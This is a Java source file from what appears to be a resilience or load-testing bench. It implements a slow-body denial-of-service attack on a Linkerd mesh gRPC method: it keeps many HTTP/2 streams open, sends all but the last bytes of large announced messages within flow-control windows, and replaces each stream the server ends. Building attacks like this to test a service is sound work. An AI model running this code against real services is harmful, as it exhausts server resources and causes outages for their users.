package io.dtabd.bench.attack;

import io.dtabd.bench.attack.MeshConnection.Frame;
import io.dtabd.bench.load.Http2Bytes;
import java.io.IOException;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.HashMap;
import java.util.Map;

/**
 * Sends all but the end of a large gRPC message, on many streams of a connection, as fast as the
 * server lets it. A stream that the server ends is followed by another.
 */
record PartialMeshMessages(Target target) implements Attack {

  private static final int STREAMS = 50;

  private static final String METHOD = "/io.linkerd.mesh.Interpreter/StreamBoundTree";

  @Override
  public int attackers() {
    return 4;
  }

  @Override
  public void once(int attacker, Tally tally) throws IOException {
    try (var connection = MeshConnection.open(target.meshAddress(), Http2Bytes.FIRST_WINDOW)) {
      new Sender(connection, tally).run();
    } catch (SocketTimeoutException e) {
      // The server has held all of it for as long as it is to be held.
    }
  }

  /** One connection, within the windows that the server gives. */
  private static final class Sender {

    /** The largest that every server takes. */
    private static final int FRAME_BYTES = 16_384;

    /** Of a message; it counts against the windows. */
    private static final int PREFIX_BYTES = 5;

    /** What may be sent, and what is left to send. */
    private static final class Stream {
      private final int id;
      private long window;
      private int left = PartialHttpBodies.SENT_BYTES;

      Stream(int id, long window) {
        this.id = id;
        this.window = window;
      }
    }

    private final MeshConnection connection;
    private final Tally tally;
    private final Map<Integer, Stream> open = new HashMap<>();

    /** Those that may have something to send, in turn. */
    private final Deque<Stream> turns = new ArrayDeque<>();

    private long connectionWindow = Http2Bytes.FIRST_WINDOW;
    private long firstWindow = Http2Bytes.FIRST_WINDOW;
    private int nextId = 1;

    Sender(MeshConnection connection, Tally tally) {
      this.connection = connection;
      this.tally = tally;
    }

    void run() throws IOException {
      long deadline = System.nanoTime() + HOLD.toNanos();
      while (System.nanoTime() - deadline < 0) {
        while (open.size() < STREAMS && connectionWindow >= PREFIX_BYTES) {
          begin();
        }
        send();
        Frame frame = connection.next();
        if (frame.type() == Http2Bytes.GOAWAY) {
          tally.refused();
          return;
        }
        if (frame.type() == Http2Bytes.SETTINGS) {
          settings(frame.payload());
        } else if (frame.type() == Http2Bytes.WINDOW_UPDATE) {
          grow(frame.stream(), frame.payload().getInt());
        } else if (frame.endsStream() && open.remove(frame.stream()) != null) {
          tally.refused();
        }
      }
    }

    private void begin() throws IOException {
      connection.send(Http2Bytes.beginCall(nextId, METHOD, PartialHttpBodies.ANNOUNCED_BYTES));
      connectionWindow -= PREFIX_BYTES;
      var stream = new Stream(nextId, firstWindow - PREFIX_BYTES);
      open.put(nextId, stream);
      turns.add(stream);
      nextId += 2;
      tally.taken();
    }

    private void settings(ByteBuffer payload) {
      while (payload.hasRemaining()) {
        int name = payload.getShort();
        int value = payload.getInt();
        if (name == Http2Bytes.INITIAL_WINDOW_SIZE) {
          for (Stream stream : open.values()) {
            stream.window += value - firstWindow;
          }
          firstWindow = value;
          turns.clear();
          turns.addAll(open.values());
        }
      }
    }

    private void grow(int id, int bytes) {
      Stream stream = open.get(id);
      if (id == 0) {
        connectionWindow += bytes;
      } else if (stream != null) {
        stream.window += bytes;
        turns.add(stream);
      }
    }

    private void send() throws IOException {
      while (connectionWindow > 0 && !turns.isEmpty()) {
        Stream stream = turns.remove();
        long length =
            Math.min(Math.min(stream.left, stream.window), Math.min(connectionWindow, FRAME_BYTES));
        if (open.containsKey(stream.id) && length > 0) {
          connection.sendData(stream.id, (int) length);
          stream.left -= (int) length;
          stream.window -= length;
          connectionWindow -= length;
          turns.add(stream);
        }
      }
    }
  }
}
